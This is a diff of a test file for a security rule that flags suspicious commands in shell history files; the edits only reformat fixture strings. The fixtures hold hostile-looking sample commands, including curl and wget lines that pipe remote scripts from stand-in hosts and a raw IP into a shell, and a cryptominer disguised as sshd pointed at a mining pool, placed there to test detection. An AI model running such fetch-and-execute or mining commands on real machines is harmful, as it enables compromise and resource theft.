@@ -8,7 +8,8 @@ testRule(rule, {
       name: 'everyday administration',
       facts: {
         histories: historyFacts({
-          '/root/.bash_history': 'apt update\napt install -y nginx\nsystemctl restart nginx\ncurl -s https://example.com/health\nwget https://example.com/pkg.deb\ngrep xmrig /var/log/syslog\nhistory | tail\ntail -f /var/log/nginx/access.log\n',
+          '/root/.bash_history':
+            'apt update\napt install -y nginx\nsystemctl restart nginx\ncurl -s https://example.com/health\nwget https://example.com/pkg.deb\ngrep xmrig /var/log/syslog\nhistory | tail\ntail -f /var/log/nginx/access.log\n',
           '/home/deploy/.python_history': 'import requests\nrequests.get("https://example.com")\n',
           '/home/deploy/.mysql_history': 'show databases;\nselect * from users limit 10;\n',
         }),
@@ -19,7 +20,8 @@ testRule(rule, {
       name: 'kubernetes node preparation (setenforce 0, firewalld stopped) and chattr hardening',
       facts: {
         histories: historyFacts({
-          '/root/.bash_history': 'setenforce 0\nsed -i s/^SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config\nsystemctl stop firewalld\nsystemctl disable firewalld\nswapoff -a\nchattr +i /etc/passwd /etc/shadow /etc/group /etc/gshadow\nyum install -y kubelet kubeadm kubectl\n',
+          '/root/.bash_history':
+            'setenforce 0\nsed -i s/^SELINUX=enforcing/SELINUX=disabled/ /etc/selinux/config\nsystemctl stop firewalld\nsystemctl disable firewalld\nswapoff -a\nchattr +i /etc/passwd /etc/shadow /etc/group /etc/gshadow\nyum install -y kubelet kubeadm kubectl\n',
         }),
       },
     },
@@ -48,7 +50,8 @@ testRule(rule, {
       facts: {
         histories: historyFacts({
           '/root/.bash_history': 'curl -fsSL https://scripts.example.org/setup.sh | bash\n',
-          '/home/deploy/.bash_history': 'curl -fsSLk https://get.docker.com.example.net/x | sh\ncurl 45.67.89.10/ldr.sh | sh\nsetenforce 0\nsystemctl stop firewalld\n',
+          '/home/deploy/.bash_history':
+            'curl -fsSLk https://get.docker.com.example.net/x | sh\ncurl 45.67.89.10/ldr.sh | sh\nsetenforce 0\nsystemctl stop firewalld\n',
         }),
       },
       expect: [
@@ -78,14 +81,25 @@ testRule(rule, {
         }),
       },
       expect: [
-        { severity: 'critical', user: 'root', path: '/root/.bash_history', title: /downloads a script and pipes it into a shell \(2×\)/, evidence: /\.bash_history:2 \[2025-11-19T03:00:50\.000Z\]: wget -qO- http:\/\/malicious-site\.com\/m\.sh \| bash/ },
+        {
+          severity: 'critical',
+          user: 'root',
+          path: '/root/.bash_history',
+          title: /downloads a script and pipes it into a shell \(2×\)/,
+          evidence: /\.bash_history:2 \[2025-11-19T03:00:50\.000Z\]: wget -qO- http:\/\/malicious-site\.com\/m\.sh \| bash/,
+        },
         { severity: 'high', path: '/root/.bash_history', title: /wipes or disables shell history \(2×\)/ },
         { severity: 'medium', title: /immutable/ },
       ],
     },
     {
       name: 'zsh extended history with a renamed miner',
-      facts: { histories: historyFacts({ '/home/deploy/.zsh_history': ': 1763521250:0;./sshd -o pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n' }) },
+      facts: {
+        histories: historyFacts({
+          '/home/deploy/.zsh_history':
+            ': 1763521250:0;./sshd -o pool.example:3333 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1\n',
+        }),
+      },
       expect: [
         { severity: 'critical', user: 'deploy', path: '/home/deploy/.zsh_history', title: /donation/ },
         { severity: 'critical', title: /Pool address/ },
